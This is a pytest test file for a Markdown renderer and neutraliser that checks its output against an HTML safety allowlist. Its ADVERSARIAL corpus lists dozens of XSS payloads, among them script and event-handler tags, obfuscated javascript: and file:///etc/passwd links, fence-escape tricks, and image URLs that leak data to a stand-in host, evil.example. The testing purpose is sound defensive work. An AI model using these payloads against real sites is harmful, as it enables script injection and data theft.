"""Tests for ormagic.render.markdown: safe HTML and neutralised Markdown.

The safety checker is the standard library's ``html.parser``, not the implementation:
every adversarial payload is rendered, parsed as a browser would tokenise it, and held
to an element allowlist, no event-handler attribute, no ``src`` and safe ``href``s.
"""

from __future__ import annotations

import html
import re
import subprocess
import sys
from html.parser import HTMLParser

import pytest
from markdown_it import MarkdownIt

from ormagic.render.highlight import stylesheet
from ormagic.render.markdown import escape_text, neutralise_markdown, render_html

ALLOWED_ELEMENTS = frozenset(
    {
        *("p", "h1", "h2", "h3", "h4", "h5", "h6", "ul", "ol", "li", "blockquote"),
        *("pre", "code", "span", "div", "em", "strong", "del", "s", "a", "hr", "br"),
        *("table", "thead", "tbody", "tr", "th", "td"),
    }
)
SAFE_HREF_PREFIXES = ("http:", "https:", "mailto:", "#")
C0_AND_SPACE = "".join(chr(code) for code in range(0x21))


def is_safe_href(value: str) -> bool:
    """http:, https:, mailto: or #, or a relative reference that cannot hold a scheme.

    Read as the browser's URL parser reads it (ends stripped, tabs and newlines removed).
    Relative targets are allowed by design; one with no ":" before its first "/", "?"
    or "#" can never be parsed as having a scheme.
    """
    url = re.sub(r"[\t\n\r]", "", value).strip(C0_AND_SPACE).lower()
    return url.startswith(SAFE_HREF_PREFIXES) or ":" not in re.split(r"[/?#]", url)[0]


class SafetyChecker(HTMLParser):
    """Collects everything in an HTML fragment that a safe rendering must not contain."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in ALLOWED_ELEMENTS:
            self.problems.append(f"element <{tag}>")
        for name, value in attrs:
            self._check_attribute(tag, name, value or "")

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)

    def _check_attribute(self, tag: str, name: str, value: str) -> None:
        if name.startswith("on"):
            self.problems.append(f"event handler {name} on <{tag}>")
        if name == "src":
            self.problems.append(f"src on <{tag}>")
        if name == "href" and not is_safe_href(value):
            self.problems.append(f"href {value!r}")
        if name == "style" and re.search(r"url\(|expression|javascript", value, re.I):
            self.problems.append(f"style {value!r}")

    def handle_comment(self, data: str) -> None:
        self.problems.append(f"comment {data!r}")

    def handle_decl(self, decl: str) -> None:
        self.problems.append(f"declaration {decl!r}")

    def handle_pi(self, data: str) -> None:
        self.problems.append(f"processing instruction {data!r}")

    def unknown_decl(self, data: str) -> None:
        self.problems.append(f"declaration {data!r}")


def html_problems(fragment: str) -> list[str]:
    checker = SafetyChecker()
    checker.feed(fragment)
    checker.close()
    return checker.problems


XSS = "<img src=x onerror=alert(1)>"

ADVERSARIAL = {
    "img onerror": XSS,
    "script": "<script>alert(1)</script>",
    "svg onload": "<svg onload=alert(1)>",
    "iframe": '<iframe src="javascript:alert(1)"></iframe>',
    "style": "<style>body{background:url(javascript:alert(1))}</style>",
    "html anchor": '<a href="javascript:alert(1)">x</a>',
    "div onclick block": '<div onclick="alert(1)">\nclick\n</div>',
    "details ontoggle": "<details open ontoggle=alert(1)>",
    "unclosed tag": "<img src=x onerror=alert(1)//",
    "javascript link": "[x](javascript:alert(1))",
    "entity in scheme": "[x](jav&#x61;script:alert(1))",
    "mixed case scheme": "[x](JaVaScRiPt:alert(1))",
    "newline entity in scheme": "[x](java&#x0A;script:alert(1))",
    "tab entity in scheme": "[x](java&#9;script:alert(1))",
    "leading control char": "[x](&#x01;javascript:alert(1))",
    "leading space entity": "[x](&#32;javascript:alert(1))",
    "percent-encoded scheme": "[x](%6Aavascript:alert(1))",
    "vbscript": "[x](vbscript:msgbox(1))",
    "data url": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "file url": "[x](file:///etc/passwd)",
    "pointy destination": "[x](<javascript:alert(1)>)",
    "reference definition": "[x]: javascript:alert(1)\n\n[y][x] and [x]",
    "reference definition next line": "[x]:\n  <jav&#x61;script:alert(1)>\n\n[y][x]",
    "link before code span": "[x](`)" + XSS + "`",
    "escaped backticks": "\\`" + XSS + "\\`",
    "fence closed by ```~~": "```\ncode\n```~~\n" + XSS + "\n```\n",
    "tilde fence": "~~~\n" + XSS + "\n~~~\n",
    "indented fence in list item": "- item\n\n    ```\n    " + XSS + "\n    ```\n",
    "fence ending with its list item": "1. step\n   ```\n" + XSS + "\n   ```\n",
    "carriage returns": "```\r" + XSS + "\r```\r" + XSS + "\r",
    "crlf": "a\r\n" + XSS + "\r\n",
    "u2028 after fence": "```\u2028" + XSS + "\n```\n",
    "u2028 in text": "text\u2028" + XSS,
    "html comment": "<!-- c -->" + XSS,
    "doctype": "<!DOCTYPE html>" + XSS,
    "cdata": "<![CDATA[" + XSS + "]]>",
    "processing instruction": "<?php echo 1; ?>",
    "autolink javascript": "<javascript:alert(1)>",
    "autolink vbscript": "<vbscript:msgbox(1)>",
    "entity-encoded tag": "&lt;img src=x onerror=alert(1)&gt; &#60;script&#62;",
    "attributes in info string": '```python" onmouseover="alert(1)\nx = 1\n```\n',
    "tag in info string": "```" + XSS + "\nx\n```\n",
    "remote image": "![x](https://evil.example/leak?q=secret)",
    "image with unsafe scheme": "![x](javascript:alert(1))",
    "data image": "![](data:image/png;base64,AAAA)",
    "image inside unsafe link": "[![x](https://evil.example/leak)](javascript:alert(1))",
    "reference image": "![x][img]\n\n[img]: https://evil.example/leak.png",
    "title breakout": '[x](https://ok.example "a\\" onmouseover=\\"alert(1)")',
    "tag in table cell": "| a |\n|---|\n| " + XSS + " |\n",
    "tag in inline math": "$" + XSS + "$",
    "tag in bracket math": "\\(" + XSS + "\\)",
    "tag in display math": "$$\n" + XSS + "\n$$\n",
    "tag in heading": "# " + XSS,
    "tag in blockquote": "> " + XSS,
}


# ---------------------------------------------------------------------------------------
# render_html


@pytest.mark.parametrize("payload", ADVERSARIAL.values(), ids=ADVERSARIAL.keys())
def test_render_html_output_is_safe(payload: str) -> None:
    output = render_html(payload)
    assert html_problems(output) == []
    assert "<img" not in output


def test_corpus_is_large_enough() -> None:
    assert len(ADVERSARIAL) >= 25


def test_paragraph() -> None:
    assert render_html("Hello *world* and **you**.") == (
        "<p>Hello <em>world</em> and <strong>you</strong>.</p>\n"
    )


def test_list() -> None:
    assert render_html("- one\n- two\n\n1. first\n") == (
        "<ul>\n<li>one</li>\n<li>two</li>\n</ul>\n<ol>\n<li>first</li>\n</ol>\n"
    )


def test_table_and_strikethrough() -> None:
    assert render_html("| a | b |\n|---|--:|\n| ~~x~~ | 2 |\n") == (
        '<table>\n<thead>\n<tr>\n<th>a</th>\n<th style="text-align:right">b</th>\n'
        "</tr>\n</thead>\n<tbody>\n<tr>\n<td><s>x</s></td>\n"
        '<td style="text-align:right">2</td>\n</tr>\n</tbody>\n</table>\n'
    )


LIVE_BOX = (
    "padding:6px 10px;border-radius:4px;overflow-x:auto;white-space:pre;"
    "background:#f6f8fa;color:#1f2328"
)
LIVE_CODE = "background:none;color:inherit;padding:0"
OPEN = '<pre class="orm-code"><code'


def test_python_fence_is_coloured_with_token_classes() -> None:
    # operators keep the text colour; numbers get a class; no inline style anywhere
    assert render_html("```python\nx = 1 < 2 # c\n```\n") == (
        '<pre class="orm-code"><code class="language-python">x = <span class=mi>1</span> '
        "&lt; <span class=mi>2</span> <span class=c1># c</span>\n</code></pre>\n"
    )


def test_the_stylesheet_holds_the_box_and_only_the_classes_used() -> None:
    html = render_html("```python\nx = 1 < 2 # c\n```\n")
    assert stylesheet(html) == (
        "<style>.orm-code{padding:6px 10px;border-radius:4px;overflow-x:auto;white-space:pre;"
        "background:#f6f8fa;color:#1f2328}"
        ".orm-code code{background:none;color:inherit;padding:0}"
        ".orm-code .c1{color:#3D7B7B;font-style:italic}.orm-code .mi{color:#666}</style>"
    )
    assert stylesheet(render_html("no code, just `inline` and $x$")) == ""


def test_coloured_code_is_about_half_the_size_it_was_with_inline_styles() -> None:
    from pygments import highlight
    from pygments.formatters import HtmlFormatter
    from pygments.lexers import get_lexer_by_name

    code = "def mean(xs: list[float]) -> float:\n    return sum(xs) / len(xs)  # average\n" * 20
    lexer = get_lexer_by_name("python")
    inline = highlight(code, lexer, HtmlFormatter(noclasses=True, nowrap=True))
    html = render_html(f"```python\n{code}```\n")
    assert len(stylesheet(html) + html) < 0.6 * len(inline)


def test_unknown_or_missing_language_is_escaped_not_guessed() -> None:
    assert render_html("```nosuchlang\na < b\n```\n") == (
        f'{OPEN} class="language-nosuchlang">a &lt; b\n</code></pre>\n'
    )
    assert render_html("```\ndef f(): pass\n```\n") == (f"{OPEN}>def f(): pass\n</code></pre>\n")
    assert render_html("    <b>indented</b>\n") == (
        f"{OPEN}>&lt;b&gt;indented&lt;/b&gt;\n</code></pre>\n"
    )


def test_language_name_is_escaped() -> None:
    assert render_html('```nope" onclick="x\nq\n```\n') == (
        f'{OPEN} class="language-nope&quot;">q\n</code></pre>\n'
    )


def test_inline_math_keeps_delimiters_and_skips_emphasis() -> None:
    assert render_html("Area $a*b*c$ and $x_1 < y_2$.") == (
        '<p>Area <span class="math">$a*b*c$</span> and '
        '<span class="math">$x_1 &lt; y_2$</span>.</p>\n'
    )


def test_bracket_and_display_math() -> None:
    assert render_html("So \\(a_1 *b*\\) or \\[x^2\\].") == (
        '<p>So <span class="math">\\(a_1 *b*\\)</span> or '
        '<span class="math">\\[x^2\\]</span>.</p>\n'
    )
    assert render_html("$$\n\\sum_i x_i < *1*\n$$\n") == (
        '<div class="math">$$\n\\sum_i x_i &lt; *1*\n$$</div>\n'
    )
    assert render_html("\\[\na_b * c_d\n\\]\n") == ('<div class="math">\\[\na_b * c_d\n\\]</div>\n')


def test_currency_is_not_math_and_cannot_pair_up_in_mathjax() -> None:
    assert render_html("$5 and $10") == ("<p><span>$</span>5 and <span>$</span>10</p>\n")
    assert render_html("between $5/$10, or $x$") == (
        '<p>between <span>$</span>5/<span>$</span>10, or <span class="math">$x$</span></p>\n'
    )


def test_safe_link_opens_in_new_tab() -> None:
    assert render_html("[docs](https://example.com/a?b=1&c=2)") == (
        '<p><a href="https://example.com/a?b=1&amp;c=2" '
        'rel="noopener noreferrer nofollow" target="_blank">docs</a></p>\n'
    )
    assert render_html("<mailto:me@example.com>") == (
        '<p><a href="mailto:me@example.com" rel="noopener noreferrer nofollow" '
        'target="_blank">mailto:me@example.com</a></p>\n'
    )


@pytest.mark.parametrize(
    "link",
    [
        "[x](javascript:alert(1))",
        "[x](jav&#x61;script:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](java&#x0A;script:alert(1))",
        "[x](&#x01;javascript:alert(1))",
        "[x](<javascript:alert(1)>)",
        "[x](vbscript:msgbox(1))",
        "[x](data:text/html,hi)",
        "[x](file:///etc/passwd)",
        "[x][r]\n\n[r]: javascript:alert(1)",
    ],
)
def test_unsafe_link_renders_its_text_only(link: str) -> None:
    assert render_html(link) == "<p>x</p>\n"


def test_image_becomes_a_link_and_nothing_is_fetched() -> None:
    assert render_html("![a *cat*](https://evil.example/leak?q=secret)") == (
        '<p><a href="https://evil.example/leak?q=secret" '
        'rel="noopener noreferrer nofollow" target="_blank">🖼 a cat</a></p>\n'
    )
    assert render_html("![](https://example.com/x.png)") == (
        '<p><a href="https://example.com/x.png" rel="noopener noreferrer nofollow" '
        'target="_blank">🖼 image</a></p>\n'
    )
    assert render_html("![pic](javascript:alert(1))") == "<p>🖼 pic</p>\n"


def test_raw_html_is_shown_as_text() -> None:
    assert render_html(XSS) == "<p>&lt;img src=x onerror=alert(1)&gt;</p>\n"
    assert render_html("&lt;b&gt;") == "<p>&lt;b&gt;</p>\n"


def test_escape_text() -> None:
    assert escape_text("<a href='x'>\"&\"</a>") == (
        "&lt;a href=&#x27;x&#x27;&gt;&quot;&amp;&quot;&lt;/a&gt;"
    )


# ---------------------------------------------------------------------------------------
# neutralise_markdown


class TrustingMarkdownIt(MarkdownIt):
    """A frontend that passes raw HTML and never vets link schemes itself."""

    def validateLink(self, url: str) -> bool:
        return True


TRUSTING_RENDERER = TrustingMarkdownIt("commonmark", {"html": True}).enable(
    ["table", "strikethrough"]
)
JS_LINE_BREAK = re.compile(r"\r\n|[\n\r\u2028\u2029]")
LOOSE_CONTAINER = re.compile(r"(?:[ \t]*(?:>|[-+*](?=[ \t])|\d{1,9}[.)](?=[ \t])))*[ \t]*")
LOOSE_FENCE = re.compile(r"(`{3,}|~{3,})")


def marked_like_prose(markdown: str) -> list[str]:
    """The lines a loose, raw-HTML-passing renderer would treat as Markdown, not code.

    Modelled on marked's fences but looser still: lines split where JavaScript's
    line terminators are; a fence opens at ``` or ~~~ after any container prefix
    (spaces, ``>``, list markers, at any depth) unless a backtick fence has a backtick
    in its info string; it closes at a line that starts with the
    same fence string followed by any backticks or tildes (marked's ``\\1[~`]*``), so
    a ``` fence ends at "```~~". Indented code is not code here.
    """
    prose: list[str] = []
    fence: str | None = None
    for line in JS_LINE_BREAK.split(markdown):
        body = line[LOOSE_CONTAINER.match(line).end() :]  # type: ignore[union-attr]
        if fence is None:
            opening = LOOSE_FENCE.match(body)
            # As in CommonMark and marked, a backtick fence's info has no backtick.
            if opening and not ("`" in opening.group(1) and "`" in body[opening.end() :]):
                fence = opening.group(1)
            else:
                prose.append(line)
        elif re.match(re.escape(fence) + r"[~`]*[ \t]*$", body):
            fence = None
    return prose


def is_unsafe_destination(raw: str) -> bool:
    """Would a browser read a scheme other than http(s)/mailto from this destination?"""
    url = re.sub(r"[\t\n\r]", "", html.unescape(raw.strip("<>"))).strip(C0_AND_SPACE)
    scheme = re.match(r"([a-z][a-z0-9+.-]*):", url, re.I)  # WHATWG scheme syntax
    return scheme is not None and scheme.group(1).lower() not in ("http", "https", "mailto")


# The only tags the neutraliser writes itself: code as one line of inert HTML.
OWN_CODE_TAGS = re.compile(r'<pre><code(?: class="language-[A-Za-z0-9_+#.-]+")?>|</code></pre>')


def marked_like_problems(markdown: str) -> list[str]:
    problems = []
    for line in marked_like_prose(markdown):
        line = OWN_CODE_TAGS.sub("", line)
        if re.search(r"<[A-Za-z/!?]", line):
            problems.append(f"tag in {line!r}")
        if re.search(r"(?<!\\)(?:\\\\)*!\[", line):
            problems.append(f"image in {line!r}")
        for target in re.findall(r"\][ \t]*\(\s*(<[^>]*>|[^\s)]*)|\]:\s*(\S*)", line):
            if is_unsafe_destination(target[0] or target[1]):
                problems.append(f"unsafe link in {line!r}")
    return problems


@pytest.mark.parametrize("payload", ADVERSARIAL.values(), ids=ADVERSARIAL.keys())
def test_neutralised_markdown_is_safe_in_a_trusting_renderer(payload: str) -> None:
    output = TRUSTING_RENDERER.render(neutralise_markdown(payload))
    assert html_problems(output) == []
    assert "<img" not in output


@pytest.mark.parametrize("payload", ADVERSARIAL.values(), ids=ADVERSARIAL.keys())
def test_neutralised_markdown_is_safe_in_a_marked_like_view(payload: str) -> None:
    assert marked_like_problems(neutralise_markdown(payload)) == []


def test_the_checks_catch_unneutralised_payloads() -> None:
    # The two checks above must be able to fail: raw payloads do fail them.
    assert html_problems(TRUSTING_RENDERER.render(ADVERSARIAL["img onerror"])) != []
    assert html_problems(TRUSTING_RENDERER.render(ADVERSARIAL["javascript link"])) != []
    assert marked_like_problems(ADVERSARIAL["fence closed by ```~~"]) != []
    assert marked_like_problems(ADVERSARIAL["remote image"]) != []
    assert marked_like_problems(ADVERSARIAL["reference definition"]) != []


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        ("Hello **world**.\n", "Hello **world**.\n"),
        ("Use `a < b` and <b>x</b>\r\n", "Use `a &lt; b` and &lt;b>x&lt;/b>\n"),
        ("```python\nif a < b:\n    pass\n```\n", "```python\nif a < b:\n    pass\n```\n"),
        (
            "```html\n<b>x</b>\n```\n",
            '<pre><code class="language-html">&lt;b&gt;x&lt;/b&gt;&#10;</code></pre>\n',
        ),
        ("~~~\n```\n<i>\n```\n~~~\n", "<pre><code>```&#10;&lt;i&gt;&#10;```&#10;</code></pre>\n"),
        ("```~~\n<i>\n```\n", "<pre><code>&lt;i&gt;&#10;</code></pre>\n"),
        (
            "```sh\necho $HOME \\\n  [x](y)\n```\n",
            '<pre><code class="language-sh">'
            "echo &#36;HOME &#92;&#10;  &#91;x&#93;(y)&#10;</code></pre>\n",
        ),
        ("~~~py\nx = 1 if a else 2\n~~~\n", "~~~py\nx = 1 if a else 2\n~~~\n"),
        ("```x <b>\ny\n```\n", "```x &lt;b>\ny\n```\n"),
        ("~~~x\u2028[a](javascript:b)\ny\n~~~\n", "~~~x\u2028[a](#)\ny\n~~~\n"),
        ("![cat](https://x.example/c.png)", "\\![cat](https://x.example/c.png)"),
        ("\\![not an image](u)", "\\![not an image](u)"),
        ("\\<b> stays text", "&lt;b> stays text"),
        (
            "[x](javascript:alert(1)) [ok](https://a.example/p(1))",
            "[x](#) [ok](https://a.example/p(1))",
        ),
        ("[r]: <javascript:alert(1)> 'title'\n", "[r]: # 'title'\n"),
        (
            "[a](<https://x.example/p>) [b](<https://x.example/a b>)",
            "[a](https://x.example/p) [b](https://x.example/a%20b)",
        ),
        ("line\rbreak\r\n", "line\nbreak\n"),
    ],
)
def test_neutralise_exact(source: str, expected: str) -> None:
    assert neutralise_markdown(source) == expected


def test_neutralising_twice_stays_safe_and_the_model_cannot_write_its_own_code_html() -> None:
    for payload in ADVERSARIAL.values():
        twice = neutralise_markdown(neutralise_markdown(payload))
        assert html_problems(TRUSTING_RENDERER.render(twice)) == []
    forged = '<pre><code class="language-x">[a](javascript:x)</code></pre>'
    assert neutralise_markdown(forged) == (
        '&lt;pre>&lt;code class="language-x">[a](#)&lt;/code>&lt;/pre>'
    )


def test_fence_inside_list_keeps_its_indentation() -> None:
    assert neutralise_markdown("- step\n  ```\n  <br>\n  ```\n- next\n") == (
        "- step\n  <pre><code>&lt;br&gt;&#10;</code></pre>\n- next\n"
    )


def test_fence_ended_by_its_list_item_does_not_protect_what_follows() -> None:
    assert neutralise_markdown("1. a\n   ```\n<b>\n   ```\n") == ("1. a\n   ```\n&lt;b>\n   ```\n")


# ---------------------------------------------------------------------------------------
# layering


def test_module_imports_no_ipython_or_widgets() -> None:
    code = (
        "import sys, ormagic.render.markdown as m; m.render_html('*x*'); "
        "print(sorted(n for n in ('IPython', 'ipywidgets') if n in sys.modules))"
    )
    result = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, check=True, timeout=60
    )
    assert result.stdout.strip() == "[]"


def test_live_rendering_can_skip_colouring() -> None:
    assert render_html("```python\nx = 1 < 2\n```\n", highlight=False) == (
        f'<pre style="{LIVE_BOX}"><code style="{LIVE_CODE}" class="language-python">'
        "x = 1 &lt; 2\n</code></pre>\n"
    )
